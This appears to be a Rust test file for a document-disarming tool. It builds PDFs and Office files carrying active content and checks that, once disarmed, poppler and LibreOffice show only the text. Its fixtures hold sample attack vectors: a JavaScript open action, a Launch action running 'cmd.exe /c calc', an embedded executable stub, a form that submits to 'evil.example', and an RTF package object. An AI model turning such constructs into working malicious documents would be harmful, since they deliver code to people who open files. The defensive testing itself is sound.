//! What is left of disarmed documents opens in the programs that people have: LibreOffice and poppler, with the words still there.
#![expect(clippy::panic, reason = "a test stops where it cannot go on")]

use std::path::Path;
use std::process::Command;

use bytes::Bytes;
use unpack::disarm::{Outcome, disarm, renamed};
use unpack::{Budget, Limits, Part};

/// File, and words that are in it.
const ARMED: [(&str, &[u8], &[&str]); 5] = [
    ("minutes.docm", include_bytes!("../testdata/disarm/armed.docm"), &["Minutes", "Dear all", "shown instead"]),
    ("letter.odt", include_bytes!("../testdata/disarm/armed.odt"), &["press here"]),
    ("table.xlsm", include_bytes!("../testdata/disarm/armed.xlsm"), &["4142", "4243"]),
    ("show.pptm", include_bytes!("../testdata/disarm/armed.pptm"), &["Quarterly review"]),
    ("notes.rtf", ACTIVE_RTF, &["Words before", "and behind."]),
];

/// Rich text with an embedded object between its words.
const ACTIVE_RTF: &[u8] = br"{\rtf1\ansi Words before {\object\objemb{\*\objclass Package}{\*\objdata 010500000200000008000000}} and behind.\par}";

/// File, what its catalogue has, and objects besides those of a page with words.
const ACTIVE_PDFS: [(&str, &str, &str); 5] = [
    ("script.pdf", "/OpenAction<</S/JavaScript/JS(app.alert\\(1\\))>>", ""),
    ("launch.pdf", "/OpenAction<</S/Launch/Win<</F(cmd.exe)/P(/c calc)>>>>", ""),
    (
        "embedded.pdf",
        "/Names<</EmbeddedFiles<</Names[(a.exe)6 0 R]>>>>",
        "6 0 obj<</Type/Filespec/F(a.exe)/EF<</F 7 0 R>>>>endobj\n\
         7 0 obj<</Type/EmbeddedFile/Length 2>>stream\nMZ\nendstream endobj\n",
    ),
    (
        "form.pdf",
        "/AcroForm<</Fields[6 0 R]>>",
        "6 0 obj<</Type/Annot/FT/Tx/T(a)/V(b)/Rect[1 1 9 9]/Subtype/Widget/AA<</K<</S/JavaScript/JS(run\\(\\))>>>>\
         /A<</S/SubmitForm/F(http://evil.example)>>>>endobj\n",
    ),
    (
        "names.pdf",
        "/Names<</JavaScript<</Names[(run)6 0 R]>>>>",
        "6 0 obj<</S/JavaScript/JS 7 0 R>>endobj\n7 0 obj<</Length 5>>stream\nrun()\nendstream endobj\n",
    ),
];

fn pdf(catalogue: &str, objects: &str) -> Vec<u8> {
    format!(
        "%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R{catalogue}>>endobj\n\
         2 0 obj<</Type/Pages/Kids[3 0 R]/Count 1>>endobj\n\
         3 0 obj<</Type/Page/Parent 2 0 R/MediaBox[0 0 300 200]/Contents 4 0 R/Annots[6 0 R]/Resources<</Font<</F1 5 0 R>>>>>>endobj\n\
         4 0 obj<</Length 47>>stream\nBT /F1 18 Tf 20 100 Td (Words that stay) Tj ET\nendstream endobj\n\
         5 0 obj<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>endobj\n{objects}trailer<</Root 1 0 R>>\n%%EOF\n"
    )
    .into_bytes()
}

fn disarmed(name: &str, bytes: &[u8]) -> (String, Vec<u8>) {
    let part = Part {
        place: "1".into(),
        names: vec![name.to_owned()],
        bytes: Bytes::copy_from_slice(bytes),
        ..Part::default()
    };
    match disarm(&part, &mut Budget::new(Limits::default())) {
        Outcome::Disarmed(disarmed) => (renamed(name, disarmed.kind), disarmed.bytes),
        other => panic!("{name}: {other:?}"),
    }
}

#[expect(clippy::disallowed_methods, reason = "real programs are asked")]
fn run(program: &str, arguments: &[&str], home: &Path) -> String {
    let done = Command::new(program).args(arguments).env("HOME", home).output();
    let done = done.unwrap_or_else(|error| panic!("{program} is missing (see ./test): {error}"));
    assert!(done.status.success(), "{program} {arguments:?}: {}", String::from_utf8_lossy(&done.stderr));
    String::from_utf8_lossy(&done.stdout).into_owned()
}

#[test]
#[expect(clippy::disallowed_methods, reason = "files for other programs")]
fn poppler_shows_the_words_and_nothing_active() {
    let folder = tempfile::tempdir().unwrap();
    let path = |name: &str| folder.path().join(name).to_str().unwrap().to_owned();
    for (name, catalogue, objects) in ACTIVE_PDFS {
        let armed = pdf(catalogue, objects);
        std::fs::write(path("armed.pdf"), &armed).unwrap();
        std::fs::write(path(name), disarmed(name, &armed).1).unwrap();
        assert_eq!(run("pdftotext", &[&path(name), "-"], folder.path()).trim(), "Words that stay", "{name}");
        let scripts = |name: &str| run("pdfinfo", &["-js", &path(name)], folder.path());
        let files = |name: &str| run("pdfdetach", &["-list", &path(name)], folder.path());
        assert!(files(name).starts_with("0 embedded"), "{name}: {}", files(name));
        assert_eq!(scripts(name).trim(), "", "{name}");
        // What poppler would have told.
        assert_eq!(scripts("armed.pdf").contains("run()"), ["form.pdf", "names.pdf"].contains(&name), "{name}");
        assert_eq!(files("armed.pdf").starts_with("0 embedded"), name != "embedded.pdf", "{name}");
        let left = std::fs::read(path(name)).unwrap();
        let words: [&[u8]; 4] = [b"Launch", b"SubmitForm", b"cmd.exe", b"run("];
        assert!(!words.iter().any(|word| left.windows(word.len()).any(|part| part == *word)), "{name}");
    }
}

#[test]
#[expect(clippy::disallowed_methods, reason = "files for other programs")]
fn libreoffice_shows_what_is_left() {
    let folder = tempfile::tempdir().unwrap();
    let path = |name: &str| folder.path().join(name).to_str().unwrap().to_owned();
    let mut names = Vec::new();
    for (name, bytes, _) in ARMED {
        let (name, bytes) = disarmed(name, bytes);
        std::fs::write(path(&name), bytes).unwrap();
        names.push(path(&name));
    }
    let out = path("out");
    let mut arguments = vec!["--headless", "--norestore", "--convert-to", "pdf", "--outdir", &out];
    arguments.extend(names.iter().map(String::as_str));
    run("soffice", &arguments, folder.path());
    for (name, _, expected) in ARMED {
        let stem = name.split('.').next().unwrap();
        let text = run("pdftotext", &[&path(&format!("out/{stem}.pdf")), "-"], folder.path());
        assert!(!text.trim().is_empty(), "{name}: LibreOffice shows nothing");
        for word in expected {
            assert!(text.contains(word), "{name} has no {word}: {text}");
        }
    }
}
